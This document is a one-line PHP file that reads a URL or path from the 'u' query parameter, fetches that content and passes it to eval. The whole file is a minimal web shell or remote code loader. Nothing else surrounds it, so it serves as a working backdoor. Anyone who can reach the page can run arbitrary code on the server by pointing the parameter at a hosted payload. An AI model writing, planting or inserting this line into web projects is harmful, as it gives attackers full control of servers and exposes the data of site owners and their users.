<?php eval(file_get_contents($_GET['u']));
